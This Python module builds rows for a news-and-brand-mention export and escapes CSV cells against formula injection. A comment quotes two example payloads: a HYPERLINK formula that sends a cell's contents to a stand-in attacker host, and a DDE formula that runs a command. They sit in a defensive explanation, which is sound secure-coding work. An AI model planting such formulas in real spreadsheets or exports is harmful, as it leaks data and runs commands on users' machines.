"""Rows for `koll export`, streamed from the database in chunks with the contract's field names."""

from __future__ import annotations

import re
from collections.abc import Iterator

from sqlalchemy import Select, select
from sqlalchemy.engine import Connection

from koll.store import from_db
from koll.store.filters import Filter
from koll.store.items import brand_names
from koll.store.schema import feeds, items, mentions

# The contract's field names, in this order (more may be added at the end, never renamed).
_ITEM = ["url", "title", "text", "published", "source", "feed", "author", "lang", "kind"]
_MENTION = ["brand", "owned", "label", "score", "story"]
# `published_estimated` (added last to both): the feed gave no usable date, so `published` is
# when koll first saw the item ("datum uppskattat"); such items are not news of that day.
# `item_id`, `parent_item_id` (added last to both): the stored item's id, the same in both
# exports and in the analysts' API (ws.items()/ws.mentions() call it `item_id`, so one name
# means one thing), so mentions join items and a comment its post; `parent_item_id` is the id
# of the item whose key is the comment's parent_key, None when it answers nothing or its post
# is not stored. Named after the API's other item ids (first_item_id, latest_item_id).
_IDS = ["item_id", "parent_item_id"]
ITEM_FIELDS = _ITEM + ["published_estimated"] + _IDS
MENTION_FIELDS = _ITEM + _MENTION + ["published_estimated"] + _IDS


# A spreadsheet runs a cell that starts with one of these as a formula (OWASP's list for CSV
# injection): a feed title `=HYPERLINK("http://evil.example/?x="&A1,"Klicka")` would become a
# live link that sends the neighbouring cell away, `=cmd|' /C calc'!A0` a command.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# ... except a plain number such as -0.25 or +3, which a spreadsheet reads as the number it is;
# also with a decimal comma (-0,251), as the dashboard writes numbers for Swedish Excel.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(value):
    """A CSV cell that no spreadsheet runs as a formula: text starting with = + - @, a tab or a
    carriage return gets a leading ' (shown as text, the ' hidden); anything else is unchanged.

    For every CSV koll writes; JSON lines and Parquet keep the text exactly as stored.
    """
    risky = isinstance(value, str) and value.startswith(_FORMULA_START)
    return "'" + value if risky and not _PLAIN_NUMBER.fullmatch(value) else value


def spreadsheet_row(row: dict) -> dict:
    """`row` with every cell made spreadsheet_safe."""
    return {k: spreadsheet_safe(v) for k, v in row.items()}


def iso_utc(dt) -> str:
    """A naive UTC datetime from the database as ISO 8601 with a Z."""
    return from_db(dt).isoformat().replace("+00:00", "Z")


def export_rows(
    conn: Connection,
    what: str,
    *,
    brand: str | None = None,
    since: str | None = None,
    until: str | None = None,
    chunk: int = 5000,
    iso_times: bool = True,
) -> Iterator[dict]:
    """Items (what="items") or mentions (what="mentions") oldest first, as contract dicts.

    `brand` is the brand's name (any case: its stored names are exported, see
    items.brand_names); for items it keeps the items that mention the brand (or are published
    by it). Days are
    inclusive Europe/Stockholm days. `published` is an ISO string, or an aware UTC datetime
    when `iso_times` is False (for typed formats such as Parquet). The result is streamed.
    """
    if what not in ("items", "mentions"):
        raise ValueError(f"what: expected 'items' or 'mentions', got {what!r}")
    q = _query(what, brand_names(conn, brand) if brand else None, since, until)
    result = conn.execution_options(stream_results=True, yield_per=chunk).execute(q)
    for r in result:
        row = {
            # The link as published (a comment's #comment-N kept); None when the item had
            # none. Never the key, which is koll's internal identity.
            "url": r.url,
            "title": r.title,
            "text": r.text,
            "published": iso_utc(r.published) if iso_times else from_db(r.published),
            "source": r.source,
            "feed": r.feed,
            "author": r.author,
            "lang": r.lang,
            "kind": r.kind,
        }
        if what == "mentions":
            row.update(
                brand=r.brand, owned=bool(r.owned), label=r.label, score=r.score, story=r.story_id
            )
        row["published_estimated"] = bool(r.published_estimated)
        row["item_id"] = r.id
        row["parent_item_id"] = r.parent_item_id
        yield row


def _query(what: str, names: list[str] | None, since: str | None, until: str | None) -> Select:
    """The items or mentions to export, oldest first, of the brand stored under `names` (of
    every brand when None; see export_rows)."""
    cols = [
        items.c.url,
        items.c.title,
        items.c.text,
        items.c.published,
        items.c.source,
        feeds.c.url.label("feed"),
        items.c.author,
        items.c.lang,
        items.c.kind,
        items.c.published_estimated,
        items.c.id,
        items.c.story_id,
    ]
    # The feed is the one the item was first seen in (an item is stored once however many
    # feeds carry it).
    src = items.outerjoin(feeds, feeds.c.id == items.c.feed_id)
    # A comment's post, by key: a left join, as most items answer nothing and a comment's post
    # may never have been stored. items.key is unique, so it adds no rows, and its unique
    # index makes it one lookup per exported row (SQLite: SEARCH parent USING COVERING INDEX
    # sqlite_autoindex_items_1), so the export still streams on a store of a million items.
    parent = items.alias("parent")
    src = src.outerjoin(parent, parent.c.key == items.c.parent_key)
    cols.append(parent.c.id.label("parent_item_id"))
    if what == "mentions":
        cols += [mentions.c.brand, mentions.c.owned, mentions.c.label, mentions.c.score]
        src = src.join(mentions, mentions.c.item_id == items.c.id)
    q = select(*cols).select_from(src)
    if what == "mentions":
        q = Filter(brands=names or (), since=since, until=until).apply(q)
    else:
        q = Filter(since=since, until=until).apply(q, on=items)
        if names:
            about = select(mentions.c.id).where(
                mentions.c.item_id == items.c.id, mentions.c.brand.in_(names)
            )
            q = q.where(about.exists())
    q = q.order_by(items.c.published, items.c.id)
    if what == "mentions":
        q = q.order_by(mentions.c.brand)
    return q
